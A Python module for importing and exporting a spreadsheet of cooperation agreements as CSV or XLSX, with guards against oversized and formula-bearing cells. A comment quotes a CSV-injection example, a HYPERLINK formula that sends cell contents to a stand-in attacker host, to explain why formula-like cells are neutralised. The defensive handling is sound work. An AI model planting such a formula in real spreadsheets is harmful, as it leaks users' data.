"""The agreement sheet: its columns, reading it from CSV or XLSX, writing it with notes and lists.

One row per agreement. The fixed columns come first (id, workflow, workflow_version, state,
state_since, title, partner, lead_opd, parent); then one column per field of the loaded
workflow definitions (every version, in the order the definitions list them), so a new
workflow such as ``pemanfaatan-bmd`` brings its own columns without a change here. Headers
are the field keys; a sheet may also use the Indonesian or English labels as headers.

Export and import use this one format, so an exported file imports back unchanged.
"""

from __future__ import annotations

import csv
import itertools
import io
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any, Iterator, Sequence

from workflows import Registry
from workflows.spec import Field, Label

from engine.errors import InvalidInput

FIXED = ("id", "workflow", "workflow_version", "state", "state_since", "title", "partner", "lead_opd", "parent")
CORE_FIELDS = ("title", "partner", "lead_opd")

FIXED_LABELS: dict[str, Label] = {
    "id": Label("Nomor (ID) kerja sama", "Agreement id"),
    "workflow": Label("Alur kerja", "Workflow"),
    "workflow_version": Label("Versi alur kerja", "Workflow version"),
    "state": Label("Status", "State"),
    "state_since": Label("Status sejak tanggal", "In this state since"),
    "title": Label("Judul", "Title"),
    "partner": Label("Mitra", "Partner"),
    "lead_opd": Label("OPD pengampu", "Lead OPD"),
    "parent": Label("Induk (KB yang ditindaklanjuti)", "Parent (the KB it follows up)"),
}

FIXED_NOTES: dict[str, str] = {
    "id": "Contoh KS-2021-0042. Kosongkan untuk kerja sama baru: nomor diberikan saat impor.",
    "workflow": "Nama alur kerja, mis. kerja-sama atau pemanfaatan-bmd.",
    "workflow_version": "Kosongkan untuk versi terbaru (kerja sama yang sudah tercatat: versi yang dijalaninya).",
    "state": "Kode status dari daftar (mis. integrated). Kerja sama masuk dalam status ini.",
    "state_since": "Tanggal status ini mulai berlaku (mis. 20/11/2023); tenggat dihitung dari tanggal ini.",
    "title": "Judul naskah kerja sama (wajib).",
    "partner": "Nama mitra (wajib).",
    "lead_opd": "Kode OPD pengampu dari direktori (wajib), mis. DKP.",
    "parent": "Nomor KB/MoU yang ditindaklanjuti oleh PKS ini (boleh kosong).",
}


@dataclass(frozen=True)
class Column:
    key: str
    label: Label
    type: str  # fixed | text | date | bool | choice | reference | number | opd
    choices: tuple[str, ...] = ()
    workflows: tuple[str, ...] = ()  # the workflows that have this field (empty for fixed columns)

    def note(self, lang: str = "id") -> str:
        if self.key in FIXED_NOTES:
            return f"{self.label.get(lang)}. {FIXED_NOTES[self.key]}"
        kinds = {
            "date": "tanggal YYYY-MM-DD", "bool": "ya/tidak", "choice": "pilih dari daftar",
            "reference": "nomor rujukan", "number": "angka", "opd": "kode OPD", "text": "teks",
        }
        text = f"{self.label.get(lang)} ({kinds.get(self.type, self.type)})"
        if self.choices:
            text += ": " + ", ".join(self.choices)
        if self.workflows:
            text += ". Alur kerja: " + ", ".join(self.workflows)
        return text + "."


def columns(registry: Registry) -> list[Column]:
    """The sheet's columns for the loaded definitions (fixed ones first)."""
    out = [Column(k, FIXED_LABELS[k], "opd" if k == "lead_opd" else "fixed") for k in FIXED]
    seen: dict[str, int] = {}
    fields: list[tuple[Field, list[str]]] = []
    for defn in registry.all():
        for f in defn.fields:
            if f.key in CORE_FIELDS:
                continue
            if f.key in seen:
                entry = fields[seen[f.key]]
                if defn.name not in entry[1]:
                    entry[1].append(defn.name)
                if f.type == "choice":  # choices may grow between workflows/versions: offer them all
                    merged = tuple(dict.fromkeys(entry[0].choices + f.choices))
                    fields[seen[f.key]] = (Field(entry[0].key, entry[0].type, entry[0].label, merged, entry[0].confirm), entry[1])
                continue
            seen[f.key] = len(fields)
            fields.append((f, [defn.name]))
    out.extend(Column(f.key, f.label, f.type, f.choices, tuple(wfs)) for f, wfs in fields)
    return out


# ------------------------------------------------------------------------- reading


@dataclass
class Sheet:
    """A read sheet: the header (as written) and the rows as cell values, with their row numbers."""

    path: str
    header: list[str]
    rows: list[tuple[int, list[Any]]]  # (row number as the user sees it, cell values)
    # Told (rows done, rows in all) every PROGRESS_EVERY rows as they are checked (a bar on a TTY).
    on_progress: Any = None
    header_row: int = 1  # the header's row number as the sheet shows it (title rows may come first)


PROGRESS_EVERY = 1000


# How far down a header is looked for, and how many known column names make a row the header.
HEADER_SEARCH_ROWS = 20
HEADER_MIN_KNOWN = 3


def _header_index(rows: Sequence[Sequence[Any]], names: set[str] | None) -> int:
    """Which of the first rows is the header: the first with enough known column names (title
    rows and merged title cells above it are skipped); without names, the first non-empty row."""
    first_filled = None
    for i, cells in enumerate(rows[:HEADER_SEARCH_ROWS]):
        texts = [str(c).strip().lower() for c in cells if c is not None and str(c).strip()]
        if texts and first_filled is None:
            first_filled = i
        if names and sum(1 for t in texts if t in names) >= HEADER_MIN_KNOWN:
            return i
    return first_filled or 0


def _split_header(path: Path, numbered: Iterator[tuple[int, Sequence[Any]]], names: set[str] | None,
                  header_text, clean, max_rows: int | None) -> Sheet:
    """The header found among the first rows of ``numbered`` ((row number, cells), streamed),
    and the data rows after it; more than ``max_rows`` data rows is refused as soon as it is met."""
    first: list[tuple[int, Sequence[Any]]] = []
    for item in numbered:
        first.append(item)
        if len(first) == HEADER_SEARCH_ROWS:
            break
    if not first:
        raise InvalidInput(f"'{path.name}' is empty: it has no header row.")
    at = _header_index([cells for _, cells in first], names)
    header_number, header_cells = first[at]
    header = [header_text(c) for c in header_cells]
    while header and not header[-1]:
        header.pop()
    rows: list[tuple[int, list[Any]]] = []
    for number, cells in itertools.chain(first[at + 1:], numbered):
        values = [clean(c) for c in cells]
        if any(v is not None for v in values):
            rows.append((number, values))
            if max_rows is not None and len(rows) > max_rows:
                raise _too_many(path, max_rows)
    return Sheet(str(path), header, rows, header_row=header_number)


def _clean_cell(value: Any) -> Any:
    if isinstance(value, str):
        value = value.strip()
        return value if value else None
    if isinstance(value, datetime):
        # A date-formatted XLSX cell reads as a datetime at midnight: the date is what was meant.
        return value.date() if (value.hour, value.minute, value.second) == (0, 0, 0) else value
    if isinstance(value, float) and value.is_integer():
        return int(value)
    return value


# ------------------------------------------------------------------------- formulas
#
# A cell that begins with one of these is taken by Excel/LibreOffice as a formula (or a DDE
# call), so a title such as =HYPERLINK("http://evil.example/?x="&A1) would run on opening
# (OWASP "CSV injection"). tkksd never writes one: XLSX cells are typed as text with Excel's
# quote prefix, CSV cells get the usual leading apostrophe, and import removes exactly that
# apostrophe again, so the value round-trips unchanged.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS))


def inert_csv(value: Any) -> Any:
    """A CSV cell value that no spreadsheet evaluates (a leading apostrophe where needed)."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def restore_csv(value: Any) -> Any:
    """The value ``inert_csv`` protected, exactly as it was."""
    if isinstance(value, str) and value.startswith("'") and _needs_quote(value[1:]):
        return value[1:]
    return value


def mark_text_cells(ws, min_row: int = 1) -> None:
    """Make every string cell of ``ws`` that looks like a formula a plain text cell (openpyxl
    stores a string beginning with '=' as a formula otherwise)."""
    for row in ws.iter_rows(min_row=min_row):
        for cell in row:
            value = cell.value
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                cell.data_type = "s"
                cell.quotePrefix = True


def _too_many(path: Path, max_rows: int) -> InvalidInput:
    return InvalidInput(f"'{path.name}' has more than {max_rows:,} rows, the most one import takes ([import] max_rows); "
                        "split it into several files; nothing was imported.")


def read(path: str | Path, header_names: set[str] | None = None, *, max_rows: int | None = None) -> Sheet:
    """The sheet at ``path``; ``header_names`` (lower case) lets the header be found below title
    rows; more than ``max_rows`` data rows is refused as soon as it is met."""
    path = Path(path)
    if not path.exists():
        raise InvalidInput(f"There is no file '{path}'.")
    if path.is_dir():
        raise InvalidInput(f"'{path}' is a folder, not a .csv or .xlsx file.")
    suffix = path.suffix.lower()
    if suffix == ".csv":
        return _read_csv(path, header_names, max_rows)
    if suffix in (".xlsx", ".xlsm"):
        return _read_xlsx(path, header_names, max_rows)
    raise InvalidInput(f"'{path.name}' is neither a .csv nor a .xlsx file.")


# Excel's limit of characters in a cell; a longer cell cannot come from a spreadsheet and is
# refused as soon as it is met, before the rest of the file is read.
CELL_LIMIT = 32_767


def _too_long(path: Path, number: int) -> InvalidInput:
    return InvalidInput(f"'{path.name}' row {number}: a cell is longer than {CELL_LIMIT:,} characters "
                        "(the most a spreadsheet cell holds); nothing was imported.")


def _csv_lines(path: Path):
    """The file's lines, read as they are needed (never the whole file at once)."""
    try:
        fh = open(path, encoding="utf-8-sig", newline="")
    except OSError as exc:
        raise InvalidInput(f"Cannot read '{path}': {exc.strerror or exc}.") from None
    return fh


def _read_csv(path: Path, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
    fh = _csv_lines(path)
    try:
        return _parse_csv(path, fh, header_names, max_rows)
    except UnicodeDecodeError:
        raise InvalidInput(f"'{path.name}' is not UTF-8 text; save the CSV as UTF-8.") from None
    finally:
        fh.close()


def _parse_csv(path: Path, fh, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
    skipped = 0
    head: list[str] = []
    # Leading lines that start with '#' are comments (the demo inventory says it is sample data there).
    for line in fh:
        if len(line) > 8 * CELL_LIMIT:
            raise _too_long(path, skipped + 1)
        if line.lstrip().startswith("#") and not head:
            skipped += 1
            continue
        head.append(line)
        if len(head) == 5:
            break
    sample = "".join(head)
    delimiter = ";" if sample.count(";") > sample.count(",") else ","  # Excel in an Indonesian locale writes ';'
    previous_limit = csv.field_size_limit(CELL_LIMIT)
    reader = csv.reader(itertools.chain(head, fh), delimiter=delimiter)
    numbered = ((skipped + reader.line_num, cells) for cells in reader)
    try:
        return _split_header(path, numbered, header_names, lambda c: c.strip(),
                             lambda c: restore_csv(_clean_cell(c)), max_rows)
    except csv.Error as exc:
        if "field larger than field limit" in str(exc):
            raise _too_long(path, skipped + reader.line_num) from None
        raise InvalidInput(f"'{path.name}' row {skipped + reader.line_num}: not valid CSV ({exc}).") from None
    finally:
        csv.field_size_limit(previous_limit)


def _read_xlsx(path: Path, header_names: set[str] | None = None, max_rows: int | None = None) -> Sheet:
    import openpyxl

    try:
        wb = openpyxl.load_workbook(path, read_only=True, data_only=True)
    except Exception as exc:  # noqa: BLE001 - openpyxl raises many kinds for a bad file
        raise InvalidInput(f"'{path.name}' cannot be read as an XLSX workbook ({type(exc).__name__}).") from None
    try:
        ws = wb[SHEET_NAME] if SHEET_NAME in wb.sheetnames else wb.worksheets[0]
        numbered = enumerate(ws.iter_rows(values_only=True), start=1)
        # A merged header cell reads as its text in the first cell and empty cells after it: the
        # empty ones are columns without a name, which the import ignores.
        return _split_header(path, numbered, header_names, lambda c: "" if c is None else " ".join(str(c).split()),
                             _clean_cell, max_rows)
    finally:
        wb.close()


# ------------------------------------------------------------------------- writing

SHEET_NAME = "kerja_sama"
LISTS_SHEET = "daftar"
GUIDE_SHEET = "petunjuk"


def cell_text(value: Any) -> Any:
    """How a value is written into a cell: dates as ISO text in CSV, bools as ya/tidak."""
    if isinstance(value, bool):
        return "ya" if value else "tidak"
    if value is None:
        return ""
    return value


def write_csv(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str, Any]]) -> None:
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.writer(fh)
        w.writerow([c.key for c in cols])
        for r in rows:
            w.writerow([inert_csv(_csv_value(r.get(c.key))) for c in cols])


def _csv_value(value: Any) -> Any:
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    return cell_text(value)


def write_xlsx(path: str | Path, cols: Sequence[Column], rows: Sequence[dict[str, Any]], *, lists: dict[str, Sequence[str]],
               lang: str = "id", title: str = "") -> None:
    """The sheet with notes on each header, drop-down lists for coded columns, and a guide sheet.

    ``lists`` maps a column key to its allowed values (state, workflow, lead_opd, choice fields).
    Long lists live on a hidden sheet and the validations refer to their ranges (an inline list
    may hold only 255 characters).
    """
    from openpyxl import Workbook
    from openpyxl.comments import Comment
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = Workbook()
    ws = wb.active
    ws.title = SHEET_NAME
    ws.append([c.key for c in cols])
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="DDEBF7")
    for i, c in enumerate(cols, start=1):
        cell = ws.cell(row=1, column=i)
        cell.font = bold
        cell.fill = fill
        cell.comment = Comment(c.note(lang), "tkksd", width=300, height=120)
        ws.column_dimensions[get_column_letter(i)].width = 14 if c.type in ("date", "bool", "number") else 22
    for key in ("title", "partner"):
        idx = [c.key for c in cols].index(key) + 1
        ws.column_dimensions[get_column_letter(idx)].width = 50
    ws.freeze_panes = "B2"
    for r in rows:
        ws.append([cell_text(r.get(c.key)) for c in cols])
    mark_text_cells(ws, min_row=2)
    date_cols = [i for i, c in enumerate(cols, start=1) if c.type == "date" or c.key == "state_since"]
    last = max(len(rows) + 1, 2)
    for i in date_cols:
        for row in ws.iter_rows(min_row=2, max_row=last, min_col=i, max_col=i):
            for cell in row:
                cell.number_format = "yyyy-mm-dd"

    # Drop-down lists: values on a hidden sheet, one column per list.
    lst = wb.create_sheet(LISTS_SHEET)
    extent = max(len(rows) + 500, 1000)
    col_no = 0
    for i, c in enumerate(cols, start=1):
        values = list(lists.get(c.key, ()))
        if not values:
            continue
        col_no += 1
        letter = get_column_letter(col_no)
        lst.cell(row=1, column=col_no, value=c.key).font = bold
        for j, v in enumerate(values, start=2):
            lst.cell(row=j, column=col_no, value=v)
        dv = DataValidation(
            type="list", formula1=f"={LISTS_SHEET}!${letter}$2:${letter}${len(values) + 1}", allow_blank=True,
            showErrorMessage=True, errorTitle="Nilai tidak dikenal", error=f"Pilih {c.label.get(lang)} dari daftar.",
            promptTitle=c.key, prompt=c.note(lang)[:250], showInputMessage=False,
        )
        target = get_column_letter(i)
        dv.add(f"{target}2:{target}{extent}")
        ws.add_data_validation(dv)
    lst.sheet_state = "hidden"

    guide = wb.create_sheet(GUIDE_SHEET)
    guide.column_dimensions["A"].width = 28
    guide.column_dimensions["B"].width = 110
    guide.append(["tkksd", title or "Daftar kerja sama daerah"])
    guide["A1"].font = bold
    for line in GUIDE_LINES:
        guide.append(["", line])
    guide.append([])
    guide.append(["Kolom", "Keterangan"])
    guide.cell(row=guide.max_row, column=1).font = bold
    for c in cols:
        guide.append([c.key, c.note(lang)])
    for row in guide.iter_rows(min_col=2, max_col=2):
        for cell in row:
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    wb.save(path)


GUIDE_LINES = (
    "Satu baris untuk satu kerja sama. Baris pertama lembar 'kerja_sama' adalah kode kolom; jangan diubah.",
    "Arahkan kursor ke judul kolom untuk melihat keterangannya; kolom berkode memakai daftar pilihan.",
    "Impor: tkksd import FILE.xlsx --dry-run memeriksa semua baris tanpa menyimpan apa pun; tanpa --dry-run menyimpan bila semua baris benar.",
    "Sel kosong berarti nilai kosong; kolom yang tidak ada di lembar tidak mengubah nilai yang tersimpan.",
    "Tanggal boleh berupa sel tanggal atau ditulis 2023-11-20, 20/11/2023, 20-11-2023 atau 20 November 2023; ya/tidak untuk kolom ya-tidak.",
    "Judul lembar di atas baris judul kolom, sel gabungan, kolom 'No.' dan kolom kosong diabaikan saat impor.",
)


def iter_dicts(sheet: Sheet, keys: Sequence[str | None]) -> Iterator[tuple[int, dict[str, Any]]]:
    """Rows as {key: value} for the header positions mapped to ``keys`` (None: ignored)."""
    pairs = [(i, k) for i, k in enumerate(keys) if k is not None]
    total, report = len(sheet.rows), sheet.on_progress
    for done, (number, cells) in enumerate(sheet.rows, start=1):
        n = len(cells)
        yield number, {k: (cells[i] if i < n else None) for i, k in pairs}
        if report is not None and (done % PROGRESS_EVERY == 0 or done == total):
            report(done, total)
